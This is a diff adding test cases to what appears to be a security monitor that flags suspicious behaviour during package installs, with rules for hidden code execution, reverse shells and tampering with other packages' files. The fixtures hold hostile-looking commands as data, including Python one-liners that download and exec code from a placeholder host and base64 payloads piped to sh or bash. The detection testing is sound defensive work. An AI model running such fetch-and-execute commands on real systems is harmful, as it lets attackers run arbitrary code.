@@ -337,6 +337,53 @@ MATCHES: list[tuple[str, list[Event], Severity]] = [
         [writes(f"{SCRATCH}/bun"), execs(f"{SCRATCH}/bun", "bun", "x.js")],
         Severity.HIGH,
     ),
+    *(
+        (
+            "exec-hidden",
+            [execs("/env/bin/python", "python", "-c", code, phase=phase)],
+            Severity.HIGH,
+        )
+        for phase in (P1, P2, P3, P5)
+        for code in (
+            "import base64;exec(base64.b64decode('cHJpbnQ='))",
+            "exec(__import__('urllib.request').request.urlopen('http://x.test').read())",
+            "import requests as r\nexec(r.get('http://x.test').text, {'requests': r})",
+            "import zlib; x = zlib.decompress(b'..'); exec(x)",
+        )
+    ),
+    ("exec-hidden", [shell("echo aWQ= | base64 -d | sh")], Severity.HIGH),
+    ("exec-hidden", [shell("echo aWQ= | base64 --decode | bash", P4)], Severity.MEDIUM),
+    ("exec-hidden", [execs("/usr/bin/pwsh", "pwsh", "-enc", "A" * 60, result=-2)], Severity.HIGH),
+    (
+        "others-files-changed",
+        [writes("/deps/site-packages/a/__init__.py", result=-30)],
+        Severity.HIGH,
+    ),
+    ("others-files-changed", [writes("/usr/lib/python3.11/ssl.py", result=-30)], Severity.HIGH),
+    ("others-files-changed", [writes(f"{SITE}/other/__init__.py", P1)], Severity.HIGH),
+    (
+        "others-files-changed",
+        [renames(f"{SCRATCH}/x.py", "/deps/site-packages/a/b.py", P4)],
+        Severity.MEDIUM,
+    ),
+    (
+        "reverse-shell",
+        [
+            forks(200),
+            execs("/bin/bash", "bash", "-c", "x", pid=200),
+            connects("203.0.113.7", pid=200),
+        ],
+        Severity.HIGH,
+    ),
+    (
+        "native-connect",
+        [
+            reads("/usr/lib/python3.11/lib-dynload/_ctypes.cpython-311-x86_64-linux-gnu.so"),
+            connects("203.0.113.7"),
+        ],
+        Severity.HIGH,
+    ),
+    ("own-files-deleted", [writes("/env/bin/pip")], Severity.HIGH),
     ("foreign-runtime", [execs(f"{HOME}/.cache/x/node", "node", phase=P1)], Severity.HIGH),
     ("foreign-runtime", [execs(f"{HOME}/.cache/x/node", "node", phase=P4)], Severity.MEDIUM),
     ("foreign-runtime", [execs("/usr/bin/deno", "deno", result=-2)], Severity.LOW),
